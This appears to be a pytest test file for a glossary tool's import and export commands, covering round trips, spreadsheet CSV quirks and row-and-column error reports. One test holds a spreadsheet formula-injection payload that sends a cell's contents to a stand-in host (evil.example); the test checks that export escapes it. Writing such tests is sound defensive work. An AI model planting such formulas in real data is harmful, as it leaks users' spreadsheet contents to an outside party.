"""`glossary-widget import` and `export`: the real command on real files, the round trip, what
spreadsheets write, and every kind of bad row reported at its row and column with nothing
written."""

from __future__ import annotations

import csv
import io
import json
import shutil
from pathlib import Path

import pytest
from click.testing import CliRunner

from widget_server.cli import main
from widget_server.content import load_glossary
from widget_server.model import Term

ROOT = Path(__file__).resolve().parent.parent
GLOSSARY_DATA = ROOT / "glossary_data"
TEMPLATE = ROOT / "examples" / "glossary-template.csv"

HEADER = "title,categories,definition,misuse,updated"
DEFINITION = "A charge added when a payment is late."
MISUSE = "Some lenders charge more than the contract allows."


def run(*args: str) -> tuple[int, str, str]:
    result = CliRunner().invoke(main, list(args))
    return result.exit_code, result.stdout, result.stderr


def run_bytes(*args: str) -> bytes:
    result = CliRunner().invoke(main, list(args))
    assert result.exit_code == 0, result.stderr
    return result.stdout_bytes


@pytest.fixture
def starter(tmp_path: Path) -> Path:
    """A fresh `init` glossary: finance and insurance; late-fee, grace-period, deductible."""
    data = tmp_path / "glossary"
    code, _, err = run("init", str(data))
    assert code == 0, err
    return data


def files(data: Path) -> dict[str, bytes]:
    """Every file of the glossary folder, hidden ones included, with its bytes."""
    return {str(path.relative_to(data)): path.read_bytes() for path in sorted(data.rglob("*")) if path.is_file()}


def equal_terms(a: tuple[Term, ...], b: tuple[Term, ...]) -> bool:
    """Terms compare without their sections (model.py): compare those too."""
    return a == b and [dict(t.sections) for t in a] == [dict(t.sections) for t in b]


def write(path: Path, text: str) -> Path:
    path.write_bytes(text.encode("utf-8"))
    return path


# ---- Round trip -------------------------------------------------------------------------


@pytest.mark.parametrize("file_format", ["csv", "json"])
def test_export_then_import_round_trips_exactly(tmp_path: Path, file_format: str) -> None:
    exported = run_bytes("export", "--format", file_format, "--data", str(GLOSSARY_DATA))
    source = tmp_path / f"glossary.{file_format}"
    source.write_bytes(exported)
    empty = tmp_path / "empty"
    empty.mkdir()
    shutil.copy(GLOSSARY_DATA / "categories.yml", empty / "categories.yml")

    code, out, err = run("import", str(source), "--data", str(empty))

    assert code == 0, err
    bundled = load_glossary(GLOSSARY_DATA).terms
    assert out == f"Imported {len(bundled)} terms into {empty / 'terms'}: {len(bundled)} new, 0 updated\n"
    assert equal_terms(load_glossary(empty).terms, bundled)
    assert run_bytes("export", "--format", file_format, "--data", str(empty)) == exported
    assert sorted(path.name for path in empty.iterdir()) == ["categories.yml", "terms"]


def test_export_writes_to_a_file_in_the_format_of_its_extension(tmp_path: Path) -> None:
    out = tmp_path / "terms.json"

    code, stdout, err = run("export", "-o", str(out), "--data", str(GLOSSARY_DATA))

    assert code == 0, err
    assert stdout == ""
    rows = json.loads(out.read_text("utf-8"))
    assert len(rows) == len(load_glossary(GLOSSARY_DATA).terms)
    acv = next(row for row in rows if row["slug"] == "actual-cash-value")
    assert acv["aliases"] == ["ACV"]
    assert acv["context"]["needs"] == ["ACV"]
    assert acv["examples"][0].startswith("Burglars take Omar's")


def test_export_csv_is_what_spreadsheets_open(tmp_path: Path) -> None:
    data = run_bytes("export", "--data", str(GLOSSARY_DATA))  # csv by default

    assert data.startswith(b"\xef\xbb\xbfslug,title,categories,aliases,definition,examples,")
    assert data.endswith(b"\r\n")
    assert b"\r\nccpa,CCPA,privacy,California Consumer Privacy Act; CPRA," in data


def test_a_list_item_with_a_semicolon_round_trips_on_lines(starter: Path, tmp_path: Path) -> None:
    rows = [
        {
            "title": "Buy Now; Pay Later",
            "categories": ["finance"],
            "aliases": ["pay in 4; pay later", "BNPL"],
            "definition": DEFINITION,
            "misuse": MISUSE,
            "updated": "2026-02-03",
            "slug": "bnpl",
        }
    ]
    code, _, err = run("import", str(write(tmp_path / "in.json", json.dumps(rows))), "--data", str(starter))
    assert code == 0, err

    exported = run_bytes("export", "--data", str(starter))

    assert '"pay in 4; pay later\nBNPL"' in exported.decode("utf-8-sig")
    again = tmp_path / "again"
    shutil.copytree(starter, again)
    code, _, err = run(
        "import", str(write(tmp_path / "out.csv", exported.decode("utf-8"))), "--data", str(again), "--update"
    )
    assert code == 0, err
    assert equal_terms(load_glossary(again).terms, load_glossary(starter).terms)


# ---- What spreadsheets write --------------------------------------------------------------


def test_csv_with_bom_crlf_multiline_cells_and_excel_quoting(starter: Path, tmp_path: Path) -> None:
    text = (
        "\ufeffTitle,Categories,Aliases,Definition,Examples,Misuse,Related,Updated,Case sensitive\r\n"
        '"Overdraft Fee, Daily",finance,"overdraft charge; courtesy pay",'
        '"An ""overdraft"" fee is charged\r\nwhen the balance goes below zero.",'
        '"A $4 coffee costs $39.\r\nThree payments, three fees.",'
        f'"{MISUSE}",late-fee;grace-period,2026-03-04,FALSE\r\n'
        ",,,,,,,,\r\n"  # the blank row a spreadsheet writes at the end
    )
    source = tmp_path / "sheet.csv"
    source.write_bytes(text.encode("utf-8"))

    code, out, err = run("import", str(source), "--data", str(starter))

    assert code == 0, err
    assert "1 new, 0 updated" in out
    term = load_glossary(starter).term("overdraft-fee-daily")
    assert term is not None
    assert term.title == "Overdraft Fee, Daily"
    assert term.aliases == ("overdraft charge", "courtesy pay")
    assert term.related == ("late-fee", "grace-period")
    assert term.sections["Definition"] == 'An "overdraft" fee is charged\nwhen the balance goes below zero.'
    assert term.sections["Examples"] == "- A $4 coffee costs $39.\n- Three payments, three fees."
    assert b"\r" not in (starter / "terms" / "overdraft-fee-daily.md").read_bytes()


def test_csv_separated_by_semicolons_as_some_locales_write_it(starter: Path, tmp_path: Path) -> None:
    source = write(
        tmp_path / "sheet.csv",
        "title;categories;definition;misuse;updated;aliases\n"
        f'Loan Shark;finance;{DEFINITION};{MISUSE};2026-01-01;"usurer\nmoneylender"\n',
    )

    code, _, err = run("import", str(source), "--data", str(starter))

    assert code == 0, err
    term = load_glossary(starter).term("loan-shark")
    assert term is not None and term.aliases == ("usurer", "moneylender")


def test_json_list_of_objects(starter: Path, tmp_path: Path) -> None:
    rows = [
        {
            "slug": "apr",
            "title": "Annual Percentage Rate",
            "categories": ["finance"],
            "aliases": ["APR"],
            "definition": DEFINITION,
            "examples": ["One.", "Two."],
            "misuse": MISUSE,
            "benefits": "Comparing loans.",
            "related": ["late-fee", "payday-loan"],
            "updated": "2026-01-02",
            "case_sensitive": False,
            "context": {"needs": ["APR"], "near": ["loan", "lender"]},
        },
        {
            "title": "Payday Loan",
            "categories": "finance",
            "definition": DEFINITION,
            "misuse": MISUSE,
            "updated": "2026-01-02",
            "examples": None,
        },
    ]
    source = write(tmp_path / "terms.json", json.dumps(rows))

    code, out, err = run("import", str(source), "--data", str(starter))

    assert code == 0, err
    assert "2 new" in out
    glossary = load_glossary(starter)
    apr = glossary.term("apr")
    assert apr is not None
    assert apr.related == ("late-fee", "payday-loan")  # a slug of the same import
    assert apr.context.needs == ("APR",) and apr.context.near == ("loan", "lender")
    assert apr.sections["Examples"] == "- One.\n- Two."
    assert apr.sections["Benefits"] == "Comparing loans."
    assert glossary.term("payday-loan") is not None


def test_the_template_imports_into_a_fresh_glossary(starter: Path) -> None:
    code, out, err = run("import", str(TEMPLATE), "--data", str(starter))

    assert code == 0, err
    assert "2 new, 0 updated" in out
    code, out, err = run("check", "--data", str(starter))
    assert code == 0, err
    assert out.startswith("ok: 5 terms")


# ---- --update -----------------------------------------------------------------------------


def test_update_replaces_an_existing_term_only_when_asked(starter: Path, tmp_path: Path) -> None:
    source = write(tmp_path / "late.csv", f"{HEADER}\nLate Fee,finance,New words.,{MISUSE},2026-05-06\n")
    before = files(starter)

    code, out, err = run("import", str(source), "--data", str(starter))

    assert code == 1
    assert err.splitlines() == [
        f"{source}: row 2, column title: term 'late-fee' exists (terms/late-fee.md): pass --update to replace it",
        f"1 error in {source}; nothing was written",
    ]
    assert files(starter) == before

    code, out, err = run("import", str(source), "--data", str(starter), "--update")

    assert code == 0, err
    assert out == f"Imported 1 term into {starter / 'terms'}: 0 new, 1 updated\n"
    term = load_glossary(starter).term("late-fee")
    assert term is not None
    assert term.sections["Definition"] == "New words."
    assert str(term.updated) == "2026-05-06"
    assert "Examples" not in term.sections


# ---- Bad rows: every problem at its row and column, nothing written -----------------------


def csv_row(**cells: str) -> str:
    """A header and one row of a valid new term, but for `cells`."""
    values = {
        "title": "Fresh Term",
        "categories": "finance",
        "definition": DEFINITION,
        "misuse": MISUSE,
        "updated": "2026-01-01",
        **cells,
    }
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerows([list(values), list(values.values())])
    return out.getvalue()


BAD_CSV = {
    "unknown column": (csv_row(titel="x"), "row 1, column titel: unknown column", "did you mean 'title'?"),
    "missing column": (
        f"title,categories,definition,updated\nX,finance,{DEFINITION},2026-01-01\n",
        "row 1, column misuse: missing column",
        "(required: title,",
    ),
    "empty title": (csv_row(title=" "), "row 2, column title: empty title", ""),
    "bad category": (
        csv_row(categories="finance; helthcare"),
        "row 2, column categories: unknown category 'helthcare'",
        "(known: finance, insurance)",
    ),
    "bad date": (
        csv_row(updated="24/11/2026"),
        "row 2, column updated: must be a date written as YYYY-MM-DD, not '24/11/2026'",
        "",
    ),
    "impossible date": (csv_row(updated="2026-02-30"), "row 2, column updated: must be a date", ""),
    "unknown related": (
        csv_row(related="late-fee; grace-periods"),
        "row 2, column related: related term 'grace-periods' does not exist",
        "did you mean 'grace-period'?",
    ),
    "duplicate slug": (
        csv_row() + "Fresh Term,finance,Other words.,Other misuse.,2026-01-01\n",
        "row 3, column title: slug 'fresh-term' is also row 2's",
        "",
    ),
    "clash with an existing title": (
        csv_row(title="Late Fees", slug="zz-late"),
        "row 2, column title: name 'Late Fees' matches the same text as 'Late Fee' of term 'late-fee'",
        "",
    ),
    "clash of an alias, the existing term sorting last": (
        csv_row(aliases="fee; grace periods", slug="aaa"),
        "row 2, column aliases: name 'grace periods' matches the same text as 'Grace Period' of term 'grace-period'",
        "",
    ),
    "exists without --update": (
        csv_row(title="Deductible", categories="insurance"),
        "row 2, column title: term 'deductible' exists",
        "--update",
    ),
    "bad slug": (csv_row(slug="Fresh Term"), "row 2, column slug: 'Fresh Term' is not a valid slug", ""),
    "empty definition": (csv_row(definition=""), "row 2, column definition: section 'Definition' is empty", ""),
    "bad case_sensitive": (csv_row(case_sensitive="maybe"), "row 2, column case_sensitive: must be true or false", ""),
    "context not JSON": (
        csv_row(context="needs: Fresh Term"),
        "row 2, column context: not JSON",
        '(like {"needs": ["ARM"], "near": ["mortgage"]})\n',  # an example that is JSON itself
    ),
    "context needs a name it lacks": (
        csv_row(context='{"needs": ["Stale Term"], "near": ["loan"]}'),
        "row 2, column context: context needs 'Stale Term' is not a name of this term",
        "",
    ),
    "bad title": (csv_row(title="-Fresh"), "row 2, column title: title '-Fresh' must start and end with a letter", ""),
    "cells without a column": (
        csv_row() + "A,finance,B,C,2026-01-01,extra\n",
        "row 3: text in a column without a name in row 1",
        "",
    ),
    "quote never closed": (
        f'{HEADER}\nFresh Term,finance,"never closed,{MISUSE},2026-01-01\n',
        "row 2, column definition: the quote that opens this cell (line 2) is never closed",
        'write a quote inside a cell as ""',
    ),
    "quote not closed before the next rows, which it swallowed": (
        f'{HEADER},conclusion\nOne Fee,finance,D.,M.,2026-01-01,"Avoid it.\n'
        f'Two Fee,finance,D.,M.,2026-01-01,\nThree Fee,finance,D.,M.,2026-01-01,"Skip it."\n',
        "row 2, column conclusion: the quote that opens this cell (line 2) is followed on line 4 by a quote",
        "add its closing quote (the lines between were read into it)",
    ),
    "quote never closed, lines ending in CR and a U+2028 in a cell before it": (
        f'{HEADER}\rOne Fee,finance,"a\u2028b",{MISUSE},2026-01-01\rTwo Fee,finance,"never,M.,2026-01-01\r',
        "row 3, column definition: the quote that opens this cell (line 3) is never closed",
        "",
    ),
    "quote inside a quoted cell": (
        f'{HEADER}\nFresh Term,finance,"A 5" charge.",{MISUSE},2026-01-01\n',
        "row 2, column definition: a quote inside this quoted cell (line 2) must be written twice",
        "",
    ),
    "categories separated by commas": (
        csv_row(categories="finance, insurance"),
        "row 2, column categories: separate the items with ';'",
        "",
    ),
    "examples some of which are list items": (
        csv_row(examples="-5% off is the usual discount.\n- or so the bank says\nA second example."),
        "row 2, column examples: some lines are list items ('- ...') and some are not",
        "",
    ),
    "context with curly quotes": (
        csv_row(context="{\u201cnot\u201d: [\u201cfresh term paper\u201d]}"),
        "row 2, column context: not JSON: ",
        "its quotes are curly ones",
    ),
    "not CSV": ('{"title": "x"}\n', "not a CSV file of terms", ""),
    "empty": ("", "empty file", ""),
    "no rows": (HEADER + "\n", "no terms: the file has no rows", ""),
}


@pytest.mark.parametrize("text, where, also", BAD_CSV.values(), ids=BAD_CSV.keys())
def test_a_bad_csv_row_is_reported_at_its_row_and_column(
    starter: Path, tmp_path: Path, text: str, where: str, also: str
) -> None:
    source = write(tmp_path / "bad.csv", text)
    before = files(starter)

    code, out, err = run("import", str(source), "--data", str(starter))

    assert code == 1
    assert out == ""
    assert f"{source}: {where}" in err
    assert also in err
    assert err.endswith(f" in {source}; nothing was written\n")
    assert files(starter) == before


BAD_JSON = {
    "not JSON": ('[{"title": "x",]', "not JSON: "),
    "not a list": ('{"title": "Fresh Term"}', "the JSON must be a list of objects"),
    "an item not an object": ('[["Fresh Term"]]', "row 1: not an object"),
    "a list column not a list": (
        json.dumps(
            [
                {
                    "title": "Fresh Term",
                    "categories": {"a": 1},
                    "definition": "D.",
                    "misuse": "M.",
                    "updated": "2026-01-01",
                }
            ]
        ),
        "row 1, column categories: must be text, not an object",
    ),
    "a number for text": (
        json.dumps(
            [
                {
                    "title": 12,
                    "categories": ["finance"],
                    "definition": "D.",
                    "misuse": "M.",
                    "updated": "2026-01-01",
                    "slug": "twelve",
                }
            ]
        ),
        "row 1, column title: must be text, not a number",
    ),
    "a key twice": (
        '[{"title": "A", "title": "B", "categories": ["finance"], "definition": "D.", '
        '"misuse": "M.", "updated": "2026-01-01"}]',
        "row 1, column title: column given twice",
    ),
    "missing key": (
        json.dumps([{"title": "A", "categories": ["finance"], "definition": "D.", "updated": "2026-01-01"}]),
        "row 1, column misuse: missing column",
    ),
    "a title that is no name, with context rules": (
        json.dumps(
            [
                {
                    "slug": "unnamed",
                    "title": "???",
                    "categories": ["finance"],
                    "definition": "D.",
                    "misuse": "M.",
                    "updated": "2026-01-01",
                    "context": {"not": ["a ??? fee"]},
                }
            ]
        ),
        "row 1, column title: title '???' must start and end with a letter or digit",
    ),
    "a multi-line example": (
        json.dumps(
            [
                {
                    "title": "A",
                    "categories": ["finance"],
                    "definition": "D.",
                    "misuse": "M.",
                    "updated": "2026-01-01",
                    "examples": ["one\ntwo"],
                }
            ]
        ),
        "row 1, column examples: an example is one line of text",
    ),
}


@pytest.mark.parametrize("text, where", BAD_JSON.values(), ids=BAD_JSON.keys())
def test_a_bad_json_row_is_reported_at_its_row_and_column(starter: Path, tmp_path: Path, text: str, where: str) -> None:
    source = write(tmp_path / "bad.json", text)
    before = files(starter)

    code, out, err = run("import", str(source), "--data", str(starter))

    assert code == 1
    assert f"{source}: {where}" in err
    assert err.endswith(f" in {source}; nothing was written\n")
    assert files(starter) == before


@pytest.mark.parametrize(
    "bom, row, where",
    [
        ("", f"Fee Two,finance,Caf\xe9 prices.,{MISUSE},2026-01-01\n", "row 2, column definition"),
        ("\ufeff", f"Fee Two,finance,Caf\xe9 prices.,{MISUSE},2026-01-01\n", "row 2, column definition"),
        ("", "Fee Two,finance,D.,M.,2026-01-01\n\xc9t\xe9 Fee,finance,D.,M.,2026-01-01\n", "row 3, column title"),
    ],
    ids=["in a cell", "after a byte order mark", "first in its row"],
)
def test_undecodable_bytes_are_reported_at_their_row_and_column(
    starter: Path, tmp_path: Path, bom: str, row: str, where: str
) -> None:
    source = tmp_path / "latin1.csv"
    source.write_bytes(bom.encode("utf-8") + f"{HEADER}\n{row}".encode("latin-1"))
    before = files(starter)

    code, _, err = run("import", str(source), "--data", str(starter))

    assert code == 1
    assert err.startswith(f"{source}: {where}: not UTF-8 text (byte 0x")
    assert files(starter) == before


def test_a_value_of_the_wrong_kind_is_one_problem(starter: Path, tmp_path: Path) -> None:
    """Not also "empty title" or "missing date": the value is there, of the wrong kind."""
    row = {"slug": "five", "title": 5, "categories": ["finance"], "definition": "D.", "misuse": "M.", "updated": True}
    source = write(tmp_path / "kinds.json", json.dumps([row]))

    code, _, err = run("import", str(source), "--data", str(starter))

    assert code == 1
    assert err.splitlines() == [
        f"{source}: row 1, column title: must be text, not a number",
        f"{source}: row 1, column updated: must be text, not true or false",
        f"2 errors in {source}; nothing was written",
    ]


@pytest.mark.parametrize("slug", [None, "Not A Slug"])
def test_a_row_without_a_usable_slug_still_has_its_other_cells_checked(
    starter: Path, tmp_path: Path, slug: str | None
) -> None:
    """No file name to write it under, but every problem of the row is said at once."""
    row = {"title": 5, "case_sensitive": 1, "categories": ["finance", 3], "definition": "D.", "misuse": "M."}
    if slug:
        row = {**row, "slug": slug, "title": "Fine"}
    source = write(tmp_path / "row.json", json.dumps([{**row, "updated": "2026-01-01"}]))

    code, _, err = run("import", str(source), "--data", str(starter))

    assert code == 1
    assert f"{source}: row 1, column case_sensitive: must be text, not a number" in err
    assert f"{source}: row 1, column categories: must be text, not a number" in err


def test_every_cell_that_is_not_utf8_is_reported(starter: Path, tmp_path: Path) -> None:
    """A file saved as Windows-1252 has such bytes in many cells: each is named, not the first."""
    source = tmp_path / "cp1252.csv"
    rows = f"Fee One,finance,A fee \u2013 in short.,{MISUSE},2026-01-01\nFee Two,finance,D.,Caf\xe9.,2026-01-01\n"
    source.write_bytes(f"{HEADER}\n{rows}".encode("cp1252"))

    code, _, err = run("import", str(source), "--data", str(starter))

    advice = "save the file as UTF-8 (in a spreadsheet: CSV UTF-8)"
    assert code == 1
    assert err.splitlines()[:2] == [
        f"{source}: row 2, column definition: not UTF-8 text (byte 0x96); {advice}",
        f"{source}: row 3, column misuse: not UTF-8 text (byte 0xe9); {advice}",
    ]


def test_a_utf16_file_is_named_as_such(starter: Path, tmp_path: Path) -> None:
    """Excel's "Unicode Text" is UTF-16: one message for the file, not one for its first byte."""
    source = tmp_path / "unicode.txt"
    source.write_bytes(csv_row().replace(",", "\t").encode("utf-16"))

    code, _, err = run("import", str(source), "--format", "csv", "--data", str(starter))

    assert code == 1
    assert err.startswith(f"{source}: UTF-16 or UTF-32 text (Excel's Unicode Text), not UTF-8; save the file as UTF-8")


def test_a_cell_longer_than_csvs_own_limit_is_read(starter: Path, tmp_path: Path) -> None:
    long = "A long definition. " * 10_000  # 190,000 characters; Python's csv stops at 131,072
    source = write(tmp_path / "long.csv", csv_row(definition=long))

    code, _, err = run("import", str(source), "--data", str(starter))

    assert code == 0, err
    assert load_glossary(starter).term("fresh-term").sections["Definition"] == long.strip()


def test_every_problem_is_reported_at_once(starter: Path, tmp_path: Path) -> None:
    source = write(
        tmp_path / "bad.csv",
        f"{HEADER},related\n"
        f"One Term,helthcare,{DEFINITION},{MISUSE},2026-01-01,\n"
        f"Two Term,finance,{DEFINITION},{MISUSE},yesterday,one-term\n"
        f"Three Term,finance,{DEFINITION},{MISUSE},2026-01-01,nothing\n",
    )

    code, _, err = run("import", str(source), "--data", str(starter))

    assert code == 1
    lines = err.splitlines()
    assert [line.split(": ")[1] for line in lines[:-1]] == [
        "row 2, column categories",
        "row 3, column updated",
        "row 4, column related",
    ]
    assert lines[-1] == f"3 errors in {source}; nothing was written"


def test_an_invalid_glossary_is_reported_as_check_does(starter: Path, tmp_path: Path) -> None:
    (starter / "terms" / "late-fee.md").write_text("no front matter\n", "utf-8")
    source = write(tmp_path / "ok.csv", csv_row())
    before = files(starter)

    code, _, err = run("import", str(source), "--data", str(starter))

    assert code == 1
    assert err.splitlines() == [
        f"{starter / 'terms' / 'late-fee.md'}:1: missing YAML front matter (a '---' line, the "
        "fields, then another '---' line)",
        "1 error in the glossary",
    ]
    assert files(starter) == before


def test_the_format_comes_from_the_extension_or_the_option(starter: Path, tmp_path: Path) -> None:
    source = write(tmp_path / "terms.txt", csv_row())

    code, _, err = run("import", str(source), "--data", str(starter))
    assert code == 2
    assert "give --format csv or json" in err

    code, _, err = run("import", str(source), "--format", "csv", "--data", str(starter))
    assert code == 0, err


def test_no_glossary_folder_is_said_as_other_commands_say_it(tmp_path: Path) -> None:
    code, _, err = run("import", str(TEMPLATE), "--data", str(tmp_path / "missing"))

    assert code == 1
    assert "no glossary:" in err and "--data DIR" in err


# ---- Formulas, updates and where export writes ---------------------------------------------


def test_cells_a_spreadsheet_would_take_for_formulas_are_exported_as_text(starter: Path, tmp_path: Path) -> None:
    """A cell starting with = + - or @ is a formula to a spreadsheet (a nested Examples list
    would be #NAME?, a definition a live link): export puts a ' before it, as OWASP advises,
    which spreadsheets show as text, and import takes it off again."""
    rows = [
        {
            "title": "Fresh Term",
            "categories": ["finance"],
            "definition": '=HYPERLINK("https://evil.example/?x="&A2,"source")',
            "examples": "- first example\n  - a nested detail",
            "misuse": "+1 555 0100 is the number to call.",
            "conclusion": "'Tis a fee like any other.",
            "benefits": "'=SUM(A1) is text here.",
            "updated": "2026-01-01",
        }
    ]
    code, _, err = run("import", str(write(tmp_path / "in.json", json.dumps(rows))), "--data", str(starter))
    assert code == 0, err

    exported = run_bytes("export", "--data", str(starter)).decode("utf-8-sig")

    header, *rows = csv.reader(io.StringIO(exported))
    cells = dict(zip(header, next(row for row in rows if "Fresh Term" in row), strict=True))
    assert cells["definition"] == "'" + '=HYPERLINK("https://evil.example/?x="&A2,"source")'
    assert cells["examples"] == "'- first example\n  - a nested detail"
    assert cells["misuse"] == "'+1 555 0100 is the number to call."
    assert cells["conclusion"] == "'Tis a fee like any other."  # not a formula: as it is
    assert cells["benefits"] == "''=SUM(A1) is text here."  # a ' of its own, kept apart from export's
    assert "'=HYPERLINK" not in run_bytes("export", "--format", "json", "--data", str(starter)).decode()
    again = tmp_path / "again"
    shutil.copytree(starter, again)
    shutil.rmtree(again / "terms")
    (again / "terms").mkdir()
    code, _, err = run("import", str(write(tmp_path / "out.csv", exported)), "--data", str(again))
    assert code == 0, err
    assert equal_terms(load_glossary(again).terms, load_glossary(starter).terms)


def test_update_with_an_export_rewrites_only_the_edited_terms(tmp_path: Path) -> None:
    """Export, edit a row in the spreadsheet, import with --update: only that file is written,
    and the editor is told that its comments (which no row holds) are gone."""
    data = tmp_path / "glossary"
    shutil.copytree(GLOSSARY_DATA, data)
    before = files(data)
    exported = run_bytes("export", "--data", str(data)).decode("utf-8-sig")
    source = write(tmp_path / "all.csv", exported)

    code, out, err = run("import", str(source), "--data", str(data), "--update")

    count = len(load_glossary(data).terms)
    assert (code, err) == (0, "")
    assert out == f"Imported 0 terms into {data / 'terms'}: 0 new, 0 updated, {count} unchanged\n"
    assert files(data) == before

    edited = write(tmp_path / "edited.csv", exported.replace("A premium is the price", "A premium is the sum"))
    code, out, err = run("import", str(edited), "--data", str(data), "--update")

    assert code == 0, err
    assert out.endswith(f": 0 new, 1 updated, {count - 1} unchanged\n")
    assert err == "note: terms/premium.md was rewritten from its row; the comments it had are gone\n"
    changed = {name for name, body in files(data).items() if before.get(name) != body}
    assert changed == {"terms/premium.md"}


def test_export_into_a_folder_that_does_not_exist_is_an_error(tmp_path: Path) -> None:
    code, _, err = run("export", "--data", str(GLOSSARY_DATA), "-o", str(tmp_path / "no" / "terms.csv"))

    assert code == 1
    assert err == f"Error: cannot write {tmp_path / 'no' / 'terms.csv'}: No such file or directory\n"
